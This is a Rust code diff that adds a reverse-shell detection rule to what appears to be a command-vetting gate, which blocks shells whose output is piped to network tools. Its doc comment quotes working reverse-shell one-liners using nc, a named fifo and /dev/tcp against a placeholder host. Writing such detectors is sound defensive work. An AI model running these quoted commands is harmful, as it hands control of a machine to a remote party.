@@ -68,6 +68,9 @@ pub(super) fn line(text: &str, ctx: &Context, depth: usize) -> Vec<Decision> {
     if let Some(d) = credential_sent(&flat.commands, &each, ctx, text) {
         out.push(d);
     }
+    if let Some(d) = shell_to_network(&flat.commands, text) {
+        out.push(d);
+    }
     out.extend(each.into_iter().flatten());
     out
 }
@@ -139,6 +142,45 @@ fn credential_sent(
         }
     }
     None
+}
+
+/// A shell that reads its commands from its input, with its output piped into a program
+/// that talks to another machine (`sh -i 2>&1 | nc 203.0.113.5 4444`, the fifo form `cat
+/// /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`): whoever is at the other end reads what it
+/// prints and, through the fifo, types what it runs. The reverse shell of `bash -i >&
+/// /dev/tcp/…`, by pipes.
+fn shell_to_network(commands: &[Simple], text: &str) -> Option<Decision> {
+    // `-i`, or fed by what the gate cannot read (a fifo's `cat`): not `echo ls | sh`.
+    let interactive = |c: &Simple| {
+        let fed: Vec<&Simple> = c
+            .piped_from
+            .iter()
+            .filter_map(|&j| commands.get(j))
+            .collect();
+        c.name().is_some_and(super::rules::is_shell)
+            && c.argv[1..].iter().all(|a| {
+                a.text
+                    .as_deref()
+                    .is_some_and(|t| t.starts_with('-') && t != "-c")
+            })
+            && (c.argv[1..].iter().any(|a| a.text.as_deref() == Some("-i"))
+                || !fed.is_empty() && super::feed::piped_text(&fed).is_none())
+    };
+    commands
+        .iter()
+        .any(|c| {
+            super::shells::fetches(c)
+                && c.piped_from
+                    .iter()
+                    .any(|&j| commands.get(j).is_some_and(interactive))
+        })
+        .then(|| {
+            super::block(
+                RuleId::ReverseShell,
+                "a shell's output is piped to another machine, which can then drive it: control of this machine is handed over; it is never run".into(),
+                text,
+            )
+        })
 }
 
 /// A credential store a sender is told to upload: the path after an `@` (curl's `-F name=@F`
